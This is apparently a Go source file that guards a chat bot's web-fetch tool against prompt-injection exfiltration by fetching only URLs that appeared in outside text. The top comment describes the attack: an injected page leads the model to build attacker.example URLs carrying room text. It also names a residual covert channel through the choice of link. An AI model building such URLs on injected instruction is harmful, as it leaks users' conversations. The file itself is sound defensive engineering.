package research

import (
	"html"
	"net/url"
	"strings"
	"unicode"
	"unicode/utf8"

	"github.com/lisabot/lisa/messages"
	"github.com/lisabot/lisa/urlkey"
)

// Known-URL rule (issue #15 item 6, exfiltration through fetch).
//
// A prompt-injected page can ask the model to call fetch_web_page with a
// URL it builds from the room's conversation, such as
// https://attacker.example/?d=<room text> or
// https://attacker.example/<room text>, which would hand the conversation
// to the attacker's server. So fetch_web_page only fetches URLs that are
// known to the invocation: a URL is known when it appeared, verbatim, in
// text that came from outside the model:
//
//   - a result URL of one of this invocation's web_search calls;
//   - the invoking message or the room context given to the model
//     ([Service.Open]; the HTML-unescaped form of the text is read
//     too, since the room context escapes "&" as "&amp;");
//   - the final URL (after redirects) of a successful fetch in this
//     invocation, and the links in the text the model was shown of a
//     fetched page: absolute http(s) URLs, and relative Markdown link
//     targets resolved against the page's final URL.
//
// What the model writes itself (tool arguments, answers) never makes a URL
// known. A requested URL is compared with the known ones after
// normalisation (see [urlKey]); if none matches, the fetch is refused with
// [ToolUnknownURL] before any network access, whatever differs: an added
// or changed query, an invented path on a known host, or a URL whose query
// was stripped but whose host or path is not known. There is no fallback
// that fetches a stripped form: the path, not only the query, can carry
// the data. The set belongs to one session (one invocation), holds at
// most maxKnownURLs entries (later URLs stay unknown, so refused), and one
// text adds at most maxURLsPerText. URLs are never logged; a refusal is
// visible only as its code.
//
// Residual channel: the model still chooses which known URL to fetch, so
// an attacker's page listing many links could receive a few bits per
// fetch (bounded by the tool-call budget), and web_search queries go to
// the configured search engine.
const (
	// maxKnownURLs bounds the known URLs of one invocation.
	maxKnownURLs = 2048
	// maxURLsPerText bounds the URLs collected from one text (a message,
	// the room context, one page, one result list).
	maxURLsPerText = 256
	// maxScanBytes bounds the text the URL extractor reads.
	maxScanBytes = 1 << 20
	// maxURLBytes bounds a collected URL: the fetcher's own bound
	// (web.MaxURLBytes); longer URLs could never be fetched.
	maxURLBytes = 4096
)

// ToolUnknownURL is the tool failure code of a fetch_web_page call whose
// URL is not known to the invocation (see the known-URL rule above).
const ToolUnknownURL messages.ToolCode = "unknown_url"

// errUnknownURL is the bounded, URL-free refusal the model sees.
var errUnknownURL = &messages.ToolError{Code: ToolUnknownURL, Message: "this URL is not known to this conversation. " +
	"fetch_web_page only fetches URLs that appeared in the room messages, in web_search results or in pages fetched here; " +
	"use such a URL exactly as it appeared, without adding or changing any part of it"}

// knownURLs is a bounded set of normalised URLs. It is not safe for
// concurrent use; session guards it with its mutex.
type knownURLs struct {
	keys     map[string]struct{}
	max      int
	validate URLValidator
}

// newKnownURLs returns an empty set of at most max URLs, which accepts
// only URLs that validate accepts.
func newKnownURLs(max int, validate URLValidator) *knownURLs {
	return &knownURLs{keys: map[string]struct{}{}, max: max, validate: validate}
}

// add makes raw known. It reports false when raw is not a valid http(s)
// URL or the set is full and raw was not already in it.
func (k *knownURLs) add(raw string) bool {
	key, ok := urlKey(raw, k.validate)
	if !ok {
		return false
	}
	if _, dup := k.keys[key]; dup {
		return true
	}
	if len(k.keys) >= k.max {
		return false
	}
	k.keys[key] = struct{}{}
	return true
}

// has reports whether raw matches a known URL after normalisation.
func (k *knownURLs) has(raw string) bool {
	key, ok := urlKey(raw, k.validate)
	if !ok {
		return false
	}
	_, known := k.keys[key]
	return known
}

// len reports how many URLs are known.
func (k *knownURLs) len() int { return len(k.keys) }

// urlKey returns the comparison form of an http(s) URL that validate (the
// fetcher's rule, web.ValidateURL) accepts (no user information, valid
// host and escapes): scheme and host lower case, IDNA host in ASCII form,
// canonical IPv6, trailing dot of the host and default port (80 for
// http, 443 for https) removed, fragment dropped, percent escapes
// normalised (unreserved characters decoded, others upper-case hex,
// non-ASCII bytes escaped) in path and query, trailing slashes of the
// path removed (so "", "/" and "/a/" ≡ "/a"), and an empty query dropped.
// Everything else, including the order of query parameters and the case
// of the path, is kept.
func urlKey(raw string, validate URLValidator) (string, bool) {
	u, err := validate(strings.TrimSpace(raw))
	if err != nil {
		return "", false
	}
	return urlkey.Of(u), true
}

// extractURLs returns up to max distinct URLs found in text, in order of
// appearance: absolute http and https URLs anywhere and, when base is
// not nil, Markdown link targets "](target)" resolved against base. When
// text contains "&", its HTML-unescaped form is read as well. It reads at
// most maxScanBytes of text, and its time is linear in that.
func extractURLs(text string, base *url.URL, max int) []string {
	if len(text) > maxScanBytes {
		text = text[:maxScanBytes]
	}
	var out []string
	seen := map[string]bool{}
	emit := func(u string) bool {
		if len(out) >= max {
			return false
		}
		if len(u) <= maxURLBytes && !seen[u] {
			seen[u] = true
			out = append(out, u)
		}
		return len(out) < max
	}
	scan := func(s string) bool {
		return scanAbsolute(s, emit) && (base == nil || scanMarkdownTargets(s, base, emit))
	}
	if scan(text) && strings.Contains(text, "&") {
		if un := html.UnescapeString(text); un != text {
			scan(un)
		}
	}
	return out
}

// scanAbsolute passes each "http://…" or "https://…" of s (scheme matched
// without regard to case) to emit, stopping when emit returns false. It
// reports whether it read all of s.
func scanAbsolute(s string, emit func(string) bool) bool {
	lower := asciiLower(s)
	for i := 0; i < len(s); {
		j := strings.Index(lower[i:], "http")
		if j < 0 {
			return true
		}
		start := i + j
		var n int
		switch {
		case strings.HasPrefix(lower[start+4:], "s://"):
			n = len("https://")
		case strings.HasPrefix(lower[start+4:], "://"):
			n = len("http://")
		default:
			i = start + 4
			continue
		}
		end := urlEnd(s, start+n)
		if u := trimURL(s[start:end]); len(u) > n && !emit(u) {
			return false
		}
		i = max(end, start+n)
	}
	return true
}

// urlEnd returns where the URL whose authority starts at s[from] ends: at
// whitespace, a control character, invalid UTF-8 or one of <>"`{}|\^[],
// except that an IPv6 literal may open the authority with "[" and close
// it with "]".
func urlEnd(s string, from int) int {
	bracket := from < len(s) && s[from] == '['
	if bracket {
		from++
	}
	for i := from; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size <= 1, unicode.IsSpace(r), unicode.IsControl(r):
			return i
		case r == ']' && bracket:
			bracket = false
		case strings.ContainsRune("<>\"`{}|\\^[]", r):
			return i
		}
		i += size
	}
	return len(s)
}

// trimURL removes trailing punctuation that ends a sentence or closes a
// bracket around the URL rather than belonging to it: any of .,:;!?*' at
// the end, and a final ")" without a matching "(" in the URL.
func trimURL(u string) string {
	open := strings.Count(u, "(")
	closed := strings.Count(u, ")")
	for u != "" {
		switch c := u[len(u)-1]; {
		case strings.IndexByte(".,:;!?*'", c) >= 0:
		case c == ')' && closed > open:
			closed--
		default:
			return u
		}
		u = u[:len(u)-1]
	}
	return u
}

// scanMarkdownTargets passes the targets of Markdown links "](target)"
// and "](<target>)" in s that are not absolute http(s) URLs (scanAbsolute
// finds those), resolved against base, to emit when they resolve to an
// http or https URL. It reports whether it read all of s.
func scanMarkdownTargets(s string, base *url.URL, emit func(string) bool) bool {
	for i := 0; i < len(s); {
		j := strings.Index(s[i:], "](")
		if j < 0 {
			return true
		}
		start := i + j + 2
		target, end := markdownTarget(s, start)
		i = max(end, start)
		if target == "" || len(target) > maxURLBytes || hasHTTPScheme(target) {
			continue
		}
		ref, err := url.Parse(target)
		if err != nil {
			continue
		}
		if u := base.ResolveReference(ref); (u.Scheme == "http" || u.Scheme == "https") && !emit(u.String()) {
			return false
		}
	}
	return true
}

// markdownTarget reads the link target starting at s[from]: up to ">"
// when it opens with "<", otherwise up to whitespace or a ")" that closes
// no "(" of the target. It returns the target and where reading stopped.
func markdownTarget(s string, from int) (string, int) {
	if from < len(s) && s[from] == '<' {
		for i := from + 1; i < len(s); i++ {
			switch s[i] {
			case '>':
				return s[from+1 : i], i + 1
			case '\n', '<':
				return "", i
			}
		}
		return "", len(s)
	}
	depth := 0
	for i := from; i < len(s); i++ {
		switch c := s[i]; {
		case c <= ' ' || c == 0x7f:
			return s[from:i], i
		case c == '(':
			depth++
		case c == ')':
			if depth == 0 {
				return s[from:i], i + 1
			}
			depth--
		}
	}
	return s[from:], len(s)
}

// hasHTTPScheme reports whether s starts with http:// or https://, in any
// case.
func hasHTTPScheme(s string) bool {
	l := asciiLower(s[:min(len(s), len("https://"))])
	return strings.HasPrefix(l, "http://") || strings.HasPrefix(l, "https://")
}

// asciiLower lower-cases ASCII letters only, so byte offsets stay valid.
func asciiLower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}
